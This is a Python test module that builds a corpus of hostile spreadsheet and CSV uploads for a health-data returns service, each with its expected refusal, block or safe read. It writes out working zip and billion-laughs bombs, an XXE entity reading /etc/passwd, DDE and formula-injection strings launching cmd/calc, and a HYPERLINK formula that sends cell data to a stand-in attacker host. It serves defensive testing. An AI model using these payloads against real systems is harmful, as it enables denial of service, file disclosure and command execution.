"""The hostile files: built at test time (the repository keeps this script, not the files).

Each ``Hostile`` is a real file someone could upload as a return — a zip bomb, billion laughs,
macros, a PDF named .csv, formula cells, an NHS number, a 1 MB cell, UTF-16 — with what
Oversight must do with it:

- ``REFUSED``: the whole file is refused before validation (``FileRejected``: API 400
  ``{detail, findings: [file_rejected]}``, the page's error summary), its message containing
  ``expect``;
- ``BLOCKED``: it is read, and validation blocks it with a finding of code ``expect``;
- ``READ``: it is read safely (its text kept as text, never run) with no blocking finding, and
  with a warning of code ``expect`` when one is named.

The rows are for body RA1 in 2021-22 Q3 (the tests' registry and the built-in catalogue).
``python -m tests.metrics.returns.hostile.corpus DIR`` writes every file into DIR, e.g. to seed
a fuzzer or to try one by hand.
"""

from __future__ import annotations

import codecs
import io
import re
import struct
import sys
import zipfile
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import openpyxl
from openpyxl.comments import Comment

REFUSED, BLOCKED, READ = "refused", "blocked", "read"
MIB = 1024 * 1024
HEADER = "organisation_code,metric_code,period_end,value,numerator,denominator,comment"
GOOD_ROW = "RA1,S001,2021-12-31,2,,,ok"


@dataclass(frozen=True)
class Hostile:
    file_name: str
    build: Callable[[], bytes]
    outcome: str  # REFUSED, BLOCKED or READ
    expect: str  # REFUSED: part of the message; BLOCKED / READ: a finding's code (or "")
    what: str

    @property
    def content(self) -> bytes:
        return _built(self.file_name)


# --- helpers ---------------------------------------------------------------------------------


def csv_text(*lines: str, encoding: str = "utf-8") -> bytes:
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


def workbook(rows: Sequence[Sequence[object]], *, title: str = "return") -> openpyxl.Workbook:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = title
    for row in rows:
        sheet.append(list(row))
    return book


def saved(book: openpyxl.Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def good_xlsx() -> bytes:
    return saved(workbook([HEADER.split(","), GOOD_ROW.split(",")]))


def rezip(
    content: bytes,
    *,
    replace: Mapping[str, bytes] | None = None,
    add: Mapping[str, bytes] | None = None,
) -> bytes:
    """The same zip with some members replaced or added."""
    replace, add = replace or {}, add or {}
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info)))
        for name, data in add.items():
            target.writestr(name, data)
    return out.getvalue()


def plain_zip(members: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def content_types(main: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
        'package/2006/content-types"><Override PartName="/xl/workbook.xml" '
        f'ContentType="{main}"/></Types>'
    ).encode()


# --- archives ----------------------------------------------------------------------------------


def zip_bomb() -> bytes:
    """A real workbook plus a 256 MiB member of zeros, deflated to about 250 KB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        source = zipfile.ZipFile(io.BytesIO(good_xlsx()))
        for info in source.infolist():
            archive.writestr(info.filename, source.read(info))
        with archive.open("xl/media/zeros.bin", "w", force_zip64=True) as bomb:
            chunk = bytes(16 * MIB)
            for _ in range(16):
                bomb.write(chunk)
    return out.getvalue()


def ratio_bomb() -> bytes:
    """Under the size limit, but 20 MiB of zeros compressed about 1,000 times."""
    return rezip(good_xlsx(), add={"xl/media/zeros.bin": bytes(20 * MIB)})


def many_parts() -> bytes:
    return rezip(good_xlsx(), add={f"xl/media/image{n}.png": b"x" for n in range(600)})


def lying_sizes() -> bytes:
    """The sheet's size in the central directory says 100 bytes; it holds far more."""
    rows = [HEADER.split(","), *([*GOOD_ROW.split(",")[:3], n] for n in range(300))]
    content = bytearray(saved(workbook(rows)))
    name = b"xl/worksheets/sheet1.xml"
    for found in re.finditer(re.escape(b"PK\x01\x02"), bytes(content)):
        header = found.start()
        length = struct.unpack_from("<H", content, header + 28)[0]
        if bytes(content[header + 46 : header + 46 + length]) == name:
            struct.pack_into("<I", content, header + 24, 100)
    return bytes(content)


def encrypted_members() -> bytes:
    content = bytearray(good_xlsx())
    for found in re.finditer(re.escape(b"PK\x01\x02"), bytes(content)):
        flags = struct.unpack_from("<H", content, found.start() + 8)[0]
        struct.pack_into("<H", content, found.start() + 8, flags | 0x1)
    return bytes(content)


def nameless_part() -> bytes:
    """A part whose name is empty (atheris found that it crashed the reader: a 500)."""
    out = io.BytesIO(good_xlsx())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        nameless = zipfile.ZipInfo("x")
        nameless.filename = ""  # zipfile will not take "" as a name, but writes it as given
        nameless.compress_type = zipfile.ZIP_DEFLATED
        archive.writestr(nameless, b"hello")
    return out.getvalue()


def nested_workbook() -> bytes:
    return rezip(good_xlsx(), add={"xl/media/image1.png": good_xlsx()})


# --- XML attacks -------------------------------------------------------------------------------

LAUGHS = "".join(
    f' <!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">\n' for n in range(2, 10)
)  # each expands ten times the one before: &lol9; is 10⁹ "lol"s
BILLION_LAUGHS = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<!DOCTYPE lolz [
 <!ENTITY lol1 "lol">
{LAUGHS}]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>
""".encode()

EXTERNAL_ENTITY = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">
<si><t>&xxe;</t></si></sst>
"""


def billion_laughs() -> bytes:
    return rezip(good_xlsx(), replace={"xl/worksheets/sheet1.xml": BILLION_LAUGHS})


def registered(content: bytes, part: str, content_type: str, relation: str) -> bytes:
    """Name a new part in [Content_Types].xml and the workbook's relationships, as Excel does."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        types, rels = archive.read("[Content_Types].xml"), archive.read(WORKBOOK_RELS)
    types = types.replace(
        b"</Types>",
        f'<Override PartName="/xl/{part}" ContentType="{content_type}"/></Types>'.encode(),
    )
    rels = rels.replace(
        b"</Relationships>",
        f'<Relationship Id="rIdX" Type="{RELATIONSHIPS}/{relation}" Target="{part}"/>'
        "</Relationships>".encode(),
    )
    return rezip(content, replace={"[Content_Types].xml": types, WORKBOOK_RELS: rels})


WORKBOOK_RELS = "xl/_rels/workbook.xml.rels"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SPREADSHEETML = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def external_entity() -> bytes:
    """XXE in the shared strings (openpyxl writes none: this one is registered by hand)."""
    content = registered(
        good_xlsx(), "sharedStrings.xml", f"{SPREADSHEETML}.sharedStrings+xml", "sharedStrings"
    )
    return rezip(content, add={"xl/sharedStrings.xml": EXTERNAL_ENTITY})


def entities_in_content_types() -> bytes:
    laughs = BILLION_LAUGHS.replace(b"<worksheet", b"<Types").replace(b"</worksheet>", b"</Types>")
    return rezip(good_xlsx(), replace={"[Content_Types].xml": laughs})


# --- macros and active content -------------------------------------------------------------


def vba_project() -> bytes:
    return rezip(good_xlsx(), add={"xl/vbaProject.bin": b'\x00Attribute VB_Name = "Module1"'})


def macro_content_type() -> bytes:
    macro = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    return rezip(good_xlsx(), replace={"[Content_Types].xml": content_types(macro)})


def excel4_macro_sheet() -> bytes:
    sheet = b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
    return rezip(good_xlsx(), add={"xl/macrosheets/sheet2.xml": sheet})


def activex() -> bytes:
    return rezip(good_xlsx(), add={"xl/activeX/activeX1.xml": b"<ax:ocx/>"})


def dde_external_link() -> bytes:
    """A DDE link: Excel offers to start ``cmd`` when the workbook is opened."""
    link = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems>'
        b'<ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
    )
    part = "externalLinks/externalLink1.xml"
    content = registered(good_xlsx(), part, f"{SPREADSHEETML}.externalLink+xml", "externalLink")
    return rezip(content, add={f"xl/{part}": link})


# --- renamed types ---------------------------------------------------------------------------

PDF = (
    b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Length 12 /Filter /FlateDecode >>\nstream\nx\x9c\x03\x00\x00\x00\x00\x01"
    b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
)
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00"
    b"\x00\x00\x00IEND\xaeB`\x82"
)


def docx() -> bytes:
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return plain_zip({"[Content_Types].xml": content_types(main), "word/document.xml": b"<w/>"})


# --- formulas, NHS numbers, huge rows, encodings -----------------------------------------------

FORMULA_COMMENTS = (
    '=HYPERLINK("http://attacker.invalid/?"&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)


def formula_comments_csv() -> bytes:
    """Formula-looking comments are text: kept as typed, never evaluated (the findings report,
    the one CSV Oversight writes from uploaded text, makes such text inert)."""
    slots = [(code, end) for code in ("S003", "S004") for end in MONTH_ENDS]
    rows = [
        f"RA1,{code},{end},2,,,{quoted(text)}"
        for (code, end), text in zip(slots, FORMULA_COMMENTS, strict=True)
    ]
    return csv_text(HEADER, *rows)


MONTH_ENDS = ("2021-10-31", "2021-11-30", "2021-12-31")


def quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def formula_value_csv() -> bytes:
    """A formula where the number belongs is not a number: blocked, never evaluated."""
    return csv_text(HEADER, "RA1,S001,2021-12-31,\"=cmd|' /C calc'!A0\",,,")


def formula_cells_xlsx() -> bytes:
    """Formulas never calculated (a script wrote them): no value to read, so blocked."""
    book = workbook([HEADER.split(",")])
    sheet = book.active
    assert sheet is not None
    sheet.append(["RA1", "S001", "2021-12-31", '=WEBSERVICE("http://attacker.invalid")'])
    sheet.append(["RA1", "S003", "2021-12-31", '=HYPERLINK("http://attacker.invalid","x")'])
    sheet.append(["RA1", "S004", "2021-12-31", "=cmd|' /C calc'!A0"])
    return saved(book)


def cell_comments_xlsx() -> bytes:
    """Excel cell comments (notes) are not data: read past, the values read as usual."""
    book = workbook([HEADER.split(","), GOOD_ROW.split(",")])
    sheet = book.active
    assert sheet is not None
    sheet["D2"].comment = Comment("=cmd|' /C calc'!A0 — checked by J. Smith", "Analyst")
    return saved(book)


NHS_NUMBER = "943 476 5919"  # passes Modulus 11 (NHS Digital's published test number)


def nhs_number_csv() -> bytes:
    return csv_text(HEADER, f"RA1,S001,2021-12-31,2,,,Patient {NHS_NUMBER} waited longest")


def nhs_number_xlsx() -> bytes:
    rows = [HEADER.split(","), ["RA1", "S001", "2021-12-31", 9434765919, None, None, ""]]
    return saved(workbook(rows))


def huge_cell_csv() -> bytes:
    return csv_text(HEADER, "RA1,S001,2021-12-31,2,,," + "A" * MIB)


def huge_cell_xlsx() -> bytes:
    # Excel holds at most 32,767 characters in a cell; openpyxl writes what it is given.
    return saved(
        workbook([HEADER.split(","), ["RA1", "S001", "2021-12-31", 2, None, None, "A" * MIB]])
    )


def wide_row_csv() -> bytes:
    """A data row of 100,000 columns after the named ones."""
    return csv_text(HEADER, GOOD_ROW + ",1" * 100_000)


def wide_header_csv() -> bytes:
    return csv_text(HEADER + "".join(f",x{n}" for n in range(100_000)), GOOD_ROW)


def wide_row_xlsx() -> bytes:
    """16,384 columns, Excel's widest sheet: only the first 50 are ever read."""
    return saved(workbook([HEADER.split(","), [*GOOD_ROW.split(","), *([1] * (16_384 - 7))]]))


def utf16(bom: bool) -> Callable[[], bytes]:
    def build() -> bytes:
        text = csv_text(HEADER, GOOD_ROW).decode()
        return (codecs.BOM_UTF16_LE if bom else b"") + text.encode("utf-16-le")

    return build


CORPUS: list[Hostile] = [
    # Archives: refused from the zip's directory before anything is inflated.
    Hostile("zip-bomb.xlsx", zip_bomb, REFUSED, "zip bomb", "256 MiB of zeros in 250 KB"),
    Hostile("ratio-bomb.xlsx", ratio_bomb, REFUSED, "times its compressed size", "1,000:1"),
    Hostile("many-parts.xlsx", many_parts, REFUSED, "internal parts", "600 zip members"),
    Hostile("lying-sizes.xlsx", lying_sizes, REFUSED, "damaged", "a member understates size"),
    Hostile("encrypted.xlsx", encrypted_members, REFUSED, "encrypted", "encrypted members"),
    Hostile("nameless-part.xlsx", nameless_part, REFUSED, "without a name", "atheris's find"),
    Hostile("nested.xlsx", nested_workbook, REFUSED, "embedded", "a workbook inside a .png"),
    # XML: defusedxml refuses every entity declaration.
    Hostile("billion-laughs.xlsx", billion_laughs, REFUSED, "XML entity", "10⁹ lols in a sheet"),
    Hostile("xxe.xlsx", external_entity, REFUSED, "XML entity", "file:///etc/passwd entity"),
    Hostile("laughs-types.xlsx", entities_in_content_types, REFUSED, "XML entity", "in types"),
    # Macros and active content.
    Hostile("macros.xlsm", good_xlsx, REFUSED, "macro-enabled workbook", "the .xlsm name"),
    Hostile("vba.xlsx", vba_project, REFUSED, "macros", "vbaProject.bin in an .xlsx"),
    Hostile("macro-type.xlsx", macro_content_type, REFUSED, "macros", "macroEnabled type"),
    Hostile("xl4-macro.xlsx", excel4_macro_sheet, REFUSED, "macros", "Excel 4 macro sheet"),
    Hostile("activex.xlsx", activex, REFUSED, "macros", "ActiveX control"),
    Hostile("dde-link.xlsx", dde_external_link, REFUSED, "links to other programs", "DDE link"),
    # Renamed types.
    Hostile("report.pdf.csv", lambda: PDF, REFUSED, "binary data", "a PDF named .csv"),
    Hostile("image.png.csv", lambda: PNG, REFUSED, "binary data", "a PNG named .csv"),
    Hostile("archive.zip.csv", lambda: plain_zip({"a.txt": b"a"}), REFUSED, ".csv name", "zip"),
    Hostile("report.pdf.xlsx", lambda: PDF, REFUSED, "not a zip package", "a PDF named .xlsx"),
    Hostile("image.png.xlsx", lambda: PNG, REFUSED, "not a zip package", "a PNG named .xlsx"),
    Hostile("archive.xlsx", lambda: plain_zip({"a.txt": b"a"}), REFUSED, "not an Excel", "zip"),
    Hostile("letter.docx.xlsx", docx, REFUSED, "not an Excel workbook", "a Word file"),
    Hostile(
        "old.xls.xlsx",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
        REFUSED,
        "password-protected",
        "an OLE file (.xls, or encrypted .xlsx)",
    ),
    Hostile("script.exe", lambda: b"MZ\x90\x00", REFUSED, "is neither", "an .exe"),
    # Formulas: text is never run; a formula is not a value.
    Hostile("formula-comments.csv", formula_comments_csv, READ, "", "=HYPERLINK, =cmd|, DDE"),
    Hostile(
        "formula-value.csv", formula_value_csv, BLOCKED, "free_text_in_number", "=cmd| as value"
    ),
    Hostile(
        "formula-cells.xlsx",
        formula_cells_xlsx,
        BLOCKED,
        "formula_without_value",
        "=WEBSERVICE, =HYPERLINK, =cmd| never calculated",
    ),
    Hostile("cell-comments.xlsx", cell_comments_xlsx, READ, "", "an Excel note with =cmd|"),
    # Patient data.
    Hostile(
        "nhs-number.csv", nhs_number_csv, BLOCKED, "possible_patient_identifier", "in a comment"
    ),
    Hostile(
        "nhs-number.xlsx",
        nhs_number_xlsx,
        BLOCKED,
        "possible_patient_identifier",
        "as a number cell",
    ),
    # Huge rows.
    Hostile("huge-cell.csv", huge_cell_csv, REFUSED, "cannot be read as CSV", "a 1 MB cell"),
    Hostile("huge-cell.xlsx", huge_cell_xlsx, READ, "comment_too_long", "a 1 MB comment"),
    Hostile("wide-row.csv", wide_row_csv, BLOCKED, "too_many_cells", "100,000 columns"),
    Hostile("wide-header.csv", wide_header_csv, REFUSED, "unexpected", "100,000 headings"),
    Hostile("wide-row.xlsx", wide_row_xlsx, BLOCKED, "too_many_cells", "16,384 columns"),
    # Encodings and degenerate files.
    Hostile("utf16-bom.csv", utf16(True), REFUSED, "UTF-16", "Excel's “Unicode text”"),
    Hostile("utf16-no-bom.csv", utf16(False), REFUSED, "binary data", "UTF-16 without BOM"),
    Hostile("empty.csv", lambda: b"", REFUSED, "The file is empty", "0 bytes"),
    Hostile("empty.xlsx", lambda: b"", REFUSED, "The file is empty", "0 bytes"),
    Hostile("blank-lines.csv", lambda: b"\r\n \r\n,,,\r\n", REFUSED, "empty", "no cells"),
    Hostile("only-headers.csv", lambda: csv_text(HEADER), REFUSED, "no rows of data", "header"),
    Hostile(
        "only-headers.xlsx",
        lambda: saved(workbook([HEADER.split(",")])),
        REFUSED,
        "no rows of data",
        "header only",
    ),
    Hostile(
        "nul-bytes.csv",
        lambda: csv_text(HEADER, "RA1,S001,2021-12-31,2\x00,,,"),
        REFUSED,
        "binary data",
        "a NUL in a cell",
    ),
    Hostile(
        "control-chars.csv",
        lambda: csv_text(HEADER, "RA1,S001,2021-12-31,2,,,\x1b[31m"),
        REFUSED,
        "control character",
        "an ANSI escape",
    ),
]

BY_NAME = {hostile.file_name: hostile for hostile in CORPUS}


@cache
def _built(file_name: str) -> bytes:
    return BY_NAME[file_name].build()


def write_corpus(folder: Path) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for hostile in CORPUS:
        path = folder / hostile.file_name
        path.write_bytes(hostile.content)
        paths.append(path)
    return paths


if __name__ == "__main__":
    for written in write_corpus(Path(sys.argv[1])):
        print(f"{written.stat().st_size:>12,}  {written}")
